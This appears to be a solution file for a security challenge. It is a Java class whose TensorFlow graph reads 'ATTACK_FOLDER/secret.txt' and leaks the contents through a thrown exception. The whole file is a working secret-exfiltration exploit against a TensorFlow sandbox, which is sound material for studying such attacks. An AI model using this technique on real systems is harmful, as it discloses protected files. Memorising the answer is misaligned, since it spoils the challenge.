import java.util.Map;
import org.tensorflow.ConcreteFunction;
import org.tensorflow.Result;
import org.tensorflow.Signature;
import org.tensorflow.op.Ops;
import org.tensorflow.types.TString;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        try (ConcreteFunction function = ConcreteFunction.create(own -> Signature.builder()
                .output("secret", own.io.readFile(own.constant("ATTACK_FOLDER/secret.txt")).contents())
                .build())) {
            try (Result result = function.call(Map.of())) {
                throw new IllegalStateException(((TString) result.get(0)).getObject());
            }
        }
    }
}
